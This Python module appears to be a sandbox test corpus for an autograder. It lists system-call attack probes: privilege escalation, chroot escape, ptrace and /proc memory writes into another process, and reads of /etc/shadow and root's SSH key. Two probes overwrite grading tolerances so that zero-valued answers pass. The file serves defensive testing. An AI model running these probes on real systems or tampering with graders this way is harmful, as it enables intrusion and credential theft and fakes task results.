"""Attacks on the system below Python: system calls, other processes, devices."""

from attack_corpus.record import Attack

FAMILY = "Privileges and system calls"

SYSTEM = """
import ctypes, os, platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = libc.ptrace.restype = ctypes.c_long
ON_ARM = platform.machine() == "aarch64"

def call(number, *arguments):
    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(ctypes.c_long(number), *wide)

def address(value):
    return ctypes.c_void_p(value)
"""
"""A cell with what it takes to make system calls."""


def _system(name: str, story: str, source: str, **more) -> Attack:
    return Attack(name, FAMILY, story, cells=(SYSTEM, source), **more)


PRIVILEGES = (
    _system(
        "Becoming root",
        "The process asks to be root, by every call there is.",
        """
        was = os.getuid()
        for act in (lambda: os.setuid(0), lambda: os.setreuid(0, 0), lambda: os.setresuid(0, 0, 0)):
            try:
                act()
            except OSError:
                pass
        if os.getuid() == 0 and was:
            print("HARM: became root")
        """,
    ),
    _system(
        "A program with root's rights",
        "A copy of Python is marked to run with its owner's rights whoever starts it.",
        """
        import shutil, stat, sys
        shutil.copy(sys.executable, MARK)
        os.chmod(MARK, 0o4755)
        if os.stat(MARK).st_mode & stat.S_ISUID:
            print("HARM: made a set-user-ID program")
        """,
    ),
    _system(
        "A user namespace of its own",
        "In a fresh user namespace the process is root, and more of the kernel can be reached.",
        """
        child = os.fork()
        if child == 0:
            os._exit(0 if libc.unshare(0x10000000) == 0 else 1)
        if os.waitpid(child, 0)[1] == 0:
            print("HARM: made a user namespace")
        """,
    ),
    _system(
        "A mount over the course",
        "An empty file system is mounted where the results are written.",
        """
        target = os.fsencode(COURSE / "autograded")
        libc.mount(b"tmpfs", target, b"tmpfs", ctypes.c_ulong(0), b"size=4k")
        """,
    ),
    _system(
        "A mount of the machine's disk",
        "The process looks for block devices and opens one, past all rights of files.",
        """
        import stat
        for name in os.listdir("/dev"):
            try:
                if stat.S_ISBLK(os.stat(f"/dev/{name}").st_mode):
                    os.close(os.open(f"/dev/{name}", os.O_RDONLY))
                    print("HARM: opened a disk")
                    break
            except OSError:
                pass
        """,
    ),
    _system(
        "A device of one's own",
        "`mknod` makes a device file for the machine's memory.",
        """
        try:
            os.mknod(MARK, 0o20600, os.makedev(1, 1))
            print("HARM: made a device")
        except OSError:
            pass
        """,
    ),
    _system(
        "Out of the cage by chroot",
        "The old way out of a changed root folder: change it again and walk up.",
        """
        outside = os.path.exists(COURSE)
        try:
            os.mkdir("down")
            here = os.open(".", os.O_RDONLY)
            os.chroot("down")
            os.fchdir(here)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            if not outside and os.path.exists(COURSE):
                print("HARM: left the changed root")
        except OSError:
            pass
        """,
    ),
    _system(
        "Into another process's namespaces",
        "`setns` joins the file systems and the network of a process outside.",
        """
        for process in {1, os.getppid(), BYSTANDER_PID}:
            for kind in ("user", "mnt", "net", "pid"):
                try:
                    door = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
                except OSError:
                    continue
                if kind != "user" and call(268 if ON_ARM else 308, door, 0) == 0:
                    print("HARM: joined namespaces of another process")
                os.close(door)
        """,
    ),
    _system(
        "Another process under a debugger",
        "`ptrace` stops another process of the same user and writes into its memory.",
        """
        ATTACH, DETACH, POKE = 16, 17, 5
        if libc.ptrace(ctypes.c_long(ATTACH), ctypes.c_long(BYSTANDER_PID), None, None) == 0:
            os.waitpid(BYSTANDER_PID, 0x40000000)
            word = int.from_bytes(b"attacked", "little")
            libc.ptrace(ctypes.c_long(POKE), ctypes.c_long(BYSTANDER_PID),
                        address(BYSTANDER_ADDRESS), ctypes.c_long(word))
            libc.ptrace(ctypes.c_long(DETACH), ctypes.c_long(BYSTANDER_PID), None, None)
        """,
    ),
    _system(
        "Another process's memory as a file",
        "`/proc/…/mem` of another process of the same user is opened and written to.",
        """
        with open(f"/proc/{BYSTANDER_PID}/mem", "r+b", buffering=0) as memory:
            memory.seek(BYSTANDER_ADDRESS)
            memory.write(b"attacked")
        """,
    ),
    _system(
        "Another process's memory by one call",
        "`process_vm_writev` writes into another process without stopping it.",
        """
        class Part(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

        word = ctypes.create_string_buffer(b"attacked", 8)
        mine = Part(ctypes.addressof(word), 8)
        theirs = Part(BYSTANDER_ADDRESS, 8)
        call(271 if ON_ARM else 311, BYSTANDER_PID,
             ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        """,
    ),
    _system(
        "Another process's open files",
        "`pidfd_getfd` takes over a file that another process has open.",
        """
        try:
            handle = os.pidfd_open(BYSTANDER_PID)
            if call(438, handle, 0, 0) >= 0:
                print("HARM: took an open file of another process")
        except OSError:
            pass
        """,
    ),
    _system(
        "A signal by another call",
        "`pidfd_send_signal`, `tgkill` and `rt_sigqueueinfo` send what `kill` may not.",
        """
        import signal
        call(131 if ON_ARM else 234, BYSTANDER_PID, BYSTANDER_PID, int(signal.SIGKILL))
        try:
            handle = os.pidfd_open(BYSTANDER_PID)
            call(424, handle, int(signal.SIGKILL), None, 0)
        except OSError:
            pass
        """,
    ),
    _system(
        "Its own memory as a file",
        "`/proc/self/mem` writes even where memory is read-only: here the tolerance of every check.",
        """
        import gc, struct
        import autograder.course.exercises
        with open("/proc/self/mem", "r+b", buffering=0) as memory:
            for thing in gc.get_objects():
                if type(thing).__name__ == "Exercise":
                    memory.seek(id(thing.tolerance) + 16)
                    memory.write(struct.pack("d", 1e9))
        """,
        answers={
            "forget_gate": "def forget_gate(x, h_prev, params):\n    return np.zeros_like(h_prev)",
            "lstm_step": """
                def lstm_step(x, h_prev, c_prev, params):
                    return np.zeros_like(h_prev), np.zeros_like(c_prev)
            """,
        },
        engine_says=frozenset({"values"}),
    ),
    _system(
        "Memory written through ctypes",
        "`ctypes.memset` and friends change objects that Python holds to be constant.",
        """
        import gc
        import autograder.course.exercises
        for thing in gc.get_objects():
            if type(thing).__name__ == "Exercise":
                ctypes.c_double.from_address(id(thing.tolerance) + 16).value = 1e9
        """,
        answers={
            "forget_gate": "def forget_gate(x, h_prev, params):\n    return np.zeros_like(h_prev)",
            "lstm_step": """
                def lstm_step(x, h_prev, c_prev, params):
                    return np.zeros_like(h_prev), np.zeros_like(c_prev)
            """,
        },
        engine_says=frozenset({"values"}),
    ),
    _system(
        "A program in BPF",
        "`bpf` loads a program into the kernel.",
        """
        attributes = (ctypes.c_uint32 * 32)(1, 4, 4, 1)  # an array of one entry
        if call(280 if ON_ARM else 321, 0, ctypes.byref(attributes), 128) >= 0:
            print("HARM: used bpf")
        """,
    ),
    _system(
        "Calls in a ring",
        "`io_uring` makes system calls that filters of system calls do not see.",
        """
        if call(425, 4, ctypes.byref((ctypes.c_uint32 * 64)())) >= 0:
            print("HARM: used io_uring")
        """,
    ),
    _system(
        "Secrets in the kernel's key ring",
        "`add_key` leaves data in a key ring that the user's other processes share.",
        """
        USER_RING = -4
        if call(217 if ON_ARM else 248, b"user", MARK.encode(), b"secret", 6, USER_RING) >= 0:
            print("HARM: left a key in the user's key ring")
        """,
    ),
    _system(
        "Page faults handled by the attacker",
        "`userfaultfd`, a part of many attacks on the kernel.",
        """
        if call(282 if ON_ARM else 323, 0) >= 0 or call(282 if ON_ARM else 323, 1) >= 0:
            print("HARM: used userfaultfd")
        """,
    ),
    _system(
        "Performance counters",
        "`perf_event_open` watches what the processor does.",
        """
        event = (ctypes.c_uint32 * 32)(1, 128)  # a software event
        if call(241 if ON_ARM else 298, ctypes.byref(event), 0, -1, -1, 0) >= 0:
            print("HARM: used perf_event_open")
        """,
    ),
    _system(
        "A program without a file",
        "A program is written to memory by `memfd_create` and started from there.",
        """
        import shutil
        with open("/bin/true", "rb") as file, open(os.memfd_create("tool"), "wb") as memory:
            shutil.copyfileobj(file, memory)
            memory.flush()
            child = os.fork()
            if child == 0:
                try:
                    os.execve(memory.fileno(), ["tool"], {})
                finally:
                    os._exit(1)
            if os.waitpid(child, 0)[1] == 0:
                print("HARM: started a program from memory")
        """,
    ),
    _system(
        "Another program",
        "The process replaces itself by a shell.",
        "os.execv('/bin/sh', ['sh', '-c', 'sleep 1'])",
        engine_says=frozenset({"not written", "ended"}),
    ),
    _system(
        "Passwords",
        "Files that only root may read are tried.",
        """
        for path in ("/etc/shadow", "/etc/gshadow", "/root/.bash_history", "/root/.ssh/id_rsa"):
            try:
                with open(path, "rb") as file:
                    if file.read(1):
                        print("HARM: read a file that only root may read")
                        break
            except OSError:
                pass
        """,
    ),
    _system(
        "The users of the machine",
        "`/etc/passwd` tells who has an account.",
        """
        with open("/etc/passwd") as file:
            if file.read(1):
                print("HARM: read the list of users")
        """,
    ),
    _system(
        "What else runs",
        "The command lines of all processes can be read, and with them what others work on.",
        """
        for process in os.listdir("/proc"):
            if process.isdecimal() and int(process) not in (os.getpid(), os.getppid()):
                with open(f"/proc/{process}/cmdline", "rb") as file:
                    if file.read(1):
                        print("HARM: read the command lines of other processes")
                        break
        """,
    ),
    _system(
        "Packets past the network's rules",
        "A raw socket reads and writes whatever travels.",
        """
        import socket
        for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
            try:
                socket.socket(family, kind, 1).close()
                print("HARM: opened a raw socket")
                break
            except OSError:
                pass
        """,
    ),
    _system(
        "Settings of the kernel",
        "Files in `/proc/sys` that only root may write are opened for writing, and left alone.",
        """
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/power/state"):
            try:
                os.close(os.open(path, os.O_WRONLY))
                print("HARM: could write settings of the kernel")
                break
            except OSError:
                pass
        """,
    ),
    _system(
        "The name of the machine",
        "The process sets the machine's name, to the one that it has.",
        """
        import socket
        try:
            socket.sethostname(socket.gethostname())
            print("HARM: could rename the machine")
        except OSError:
            pass
        """,
    ),
    _system(
        "The first to be sacrificed",
        "Another process is marked as the one to kill when memory runs out.",
        """
        with open(f"/proc/{BYSTANDER_PID}/oom_score_adj", "w") as file:
            file.write("1000")
        """,
    ),
)
